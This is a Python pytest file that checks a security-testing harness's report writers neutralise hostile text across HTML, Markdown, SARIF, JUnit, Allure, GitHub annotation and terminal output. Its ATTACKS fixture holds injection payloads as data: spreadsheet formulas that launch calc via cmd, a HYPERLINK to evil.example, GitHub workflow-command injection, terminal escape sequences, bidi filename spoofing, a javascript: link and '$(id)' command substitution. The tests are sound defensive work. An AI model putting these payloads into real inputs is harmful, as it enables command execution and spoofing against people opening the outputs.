"""Whatever a server, a document or a target file says, nothing that is written of a run does what it says."""

import contextlib
import io
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from harness import plugin, report
from harness.engine import Opened, Results
from harness.engine.course.retesting import Now, Retested
from harness.family import Family
from harness.model import Identity, Severity
from harness.report import comparing, recorded, retests
from harness.report import github as annotations
from tests.unit.report.factories import opened, shown
from tests.unit.report.hostile import HOSTILE, attacked
from tests.unit.report.test_html import Page
from tests.unit.report.test_sarif import sound

ATTACKS = {
    "all": HOSTILE,
    "formula": '=HYPERLINK("https://evil.example/"&A1,"x")|cmd|\' /C calc\'!A0',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 @octocat",
    "tab": "\t=1+1\r=2",
    "command": "\n::error file=x::owned\r\n::set-output name=a::b\n##[command]x\n::stop-commands::x",
    "terminal": "\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1bP+q\x1b\\\x9b31m\x08\x08\x7f",
    "turned": "\u202e\u2066txt.exe\u2069\ufeff\u200d\u00ad",
    "xml": "]]><testsuite failures='0'/>&x;<!DOCTYPE x>",
    "markdown": "</td></tr></table>\n# owned\n[x](javascript:alert(1)) ![x](https://evil.example/b) `` ` | |\n```",
    "template": "{{ 7*7 }}{% x %}${7*7}$(id)`id`",
}
_COLOURS = re.compile(r"\x1b\[[0-9;]*m")


@pytest.fixture(params=list(ATTACKS.values()), ids=list(ATTACKS))
def attack(request: pytest.FixtureRequest) -> str:
    """A text that is written everywhere."""
    return str(request.param)


def session(attack: str, folder: Path) -> plugin.Session:
    """A run that is over, whose target, identities, families, operations and answers all go by the attack."""
    at = opened(folder)
    target = at.target.model_copy(update={"name": attack})
    at = replace(at, target=target, identities=(Identity(attack, attack), *at.identities))
    (folder / "suites").mkdir()
    file = folder / "suites/evil.py"
    file.write_text('"""Inert: what is foreign stays text."""\n')
    family = Family(
        Severity.HIGH, (79,), "API8:2023", name=attack, page="Inert: what is foreign stays text.", file=file
    )
    run = attacked(attack)
    made = plugin.Session(at, run.plan, {file.resolve(): family}, folder / "out", own_command=True)
    made.known = run
    return made


@pytest.fixture
def written(attack: str, tmp_path: Path) -> tuple[Results, Opened, Path]:
    """The run, and the folder in which everything of it was written."""
    made = session(attack, tmp_path)
    words = [f"--junitxml={tmp_path / 'junit.xml'}", f"--alluredir={tmp_path / 'allure'}"]
    said = io.StringIO()
    with contextlib.redirect_stderr(said):
        assert plugin.main(made, [tmp_path / "suites"], words) == 4, said.getvalue()
    assert made.results is not None
    return made.results, made.opened, tmp_path


def printable(text: str) -> bool:
    """Whether nothing in the lines of a text does anything to a terminal."""
    return all(line.isprintable() for line in text.split("\n"))


def strings(value: Any) -> Iterator[str]:
    """Every text in a JSON value."""
    if isinstance(value, dict):
        value = [*value.keys(), *value.values()]
    if isinstance(value, list):
        for one in value:
            yield from strings(one)
    if isinstance(value, str):
        yield value


def test_nothing_that_is_written_does_what_a_text_says(written: tuple[Results, Opened, Path]) -> None:
    run, at, folder = written
    page(folder / "out/report.html")
    markdown((folder / "out/report.md").read_text())
    notes(sound((folder / "out/report.sarif").read_bytes()))
    junit(folder / "junit.xml", len(run.judged))
    allure(folder / "allure", len(run.judged))
    for colour in (False, True):
        assert printable(_COLOURS.sub("", shown(run, folder, folder / "out", 100, colour)))
    assert printable("\n".join(report.failure_text(one, folder / "out") for one in run.judged.values()))
    github(run, at, folder)
    later(run, at, folder)


def page(file: Path) -> None:
    """The page runs nothing and fetches nothing: it has no element, attribute or address of the attack's."""
    text = file.read_text()
    found = Page(text)
    assert found.open == []
    assert found.elements.isdisjoint({"script", "img", "iframe", "form", "object", "embed"})
    assert not {name for _, name in found.attributes if name.startswith("on") or name in ("src", "srcset", "action")}
    assert all(re.fullmatch(r"#[a-z0-9-]+", value) for name, value in found.values if name == "href")
    assert printable(text)


def markdown(text: str) -> None:
    """No markup but the page's own, no link, no picture, and no cell that begins like a formula."""
    allowed = {"<code>", "</code>"}
    for token in MarkdownIt("commonmark").enable("table").parse(text):
        assert token.type != "html_block"
        for one in token.children or ():
            assert one.type not in ("link_open", "image")
            assert one.type != "html_inline" or one.content in allowed
    assert printable(text)
    cells = [cell.strip() for line in text.splitlines() if line.startswith("|") for cell in line.split("|")]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t")) or re.match(r"-[^-]", cell)]


def notes(log: Any) -> None:
    """What a code host shows of it is one line without a link."""
    run = log["runs"][0]
    told = [*run["results"], *run["invocations"][0]["toolExecutionNotifications"]]
    assert told
    for one in told:
        assert one["message"]["text"].isprintable()
        assert not re.search(r"(?<!\\)\]\(", one["message"]["text"])


def junit(file: Path, count: int) -> None:
    """As many cases as there are verdicts, and no element that a text has made."""
    root = ElementTree.fromstring(file.read_bytes())
    cases = list(root.iter("testcase"))
    assert len(cases) == count
    known = {"testsuites", "testsuite", "testcase", "properties", "property", "failure", "error", "skipped"}
    assert {one.tag for one in root.iter()} <= known
    assert not [one.text for one in root.iter("failure") if "\x1b" in (one.text or "")]


def allure(folder: Path, count: int) -> None:
    """Text and JSON alone, every text in one line that prints, and every link to where the families say."""
    results = [json.loads(file.read_bytes()) for file in folder.glob("*-result.json")]
    assert len(results) == count
    for one in results:
        trace = one["statusDetails"].pop("trace")
        assert printable(trace)
        assert all(text.isprintable() for text in strings(one)), one
        assert all(re.fullmatch(r"https://cwe\.mitre\.org/[a-z/]+[0-9]+\.html", link["url"]) for link in one["links"])
        assert one["description"].startswith("Inert: ")
        assert {it["type"] for it in one["attachments"]} <= {"text/plain", "application/json"}
    for file in folder.iterdir():
        assert file.suffix in (".json", ".txt", ".properties")
        assert re.fullmatch(r"[a-z0-9.-]+", file.name)
        assert printable(file.read_bytes().decode("ascii"))
        assert file.suffix != ".json" or json.loads(file.read_bytes()) is not None
    assert len((folder / "environment.properties").read_text().splitlines()) == 10


def github(run: Results, at: Opened, folder: Path) -> None:
    """A workflow command for each door, and none that a text has made."""
    out = io.StringIO()
    annotations.write(run, at, {"GITHUB_STEP_SUMMARY": str(folder / "summary.md")}, out)
    lines = out.getvalue().splitlines()
    assert lines
    assert all(line.startswith("::error file=openapi.json,line=1,title=") for line in lines)
    assert all(line.count("::") >= 2 and "::" not in line[2 : line.index("::", 2)] for line in lines)
    assert printable(out.getvalue())
    markdown((folder / "summary.md").read_text())


def later(run: Results, at: Opened, folder: Path) -> None:
    """What is told of the report afterwards is as harmless: a comparison, and a retest."""
    first = recorded.read(folder / "out")
    second = replace(first, rows={name: replace(row, id=name) for name, row in list(first.rows.items())[4:]})
    found = comparing.compare(first, second)
    assert found
    markdown(comparing.markdown(found))
    again = [Retested(row.id, Now.OPEN, row.reason, run.judged[row.id], 1) for row in first.findings]
    for colour in (False, True):
        out = io.StringIO()
        console = Console(file=out, width=100, force_terminal=colour)
        comparing.show(found, console)
        retests.show(again, first, run, console, folder)
        assert printable(_COLOURS.sub("", out.getvalue()))
    assert at.target.name
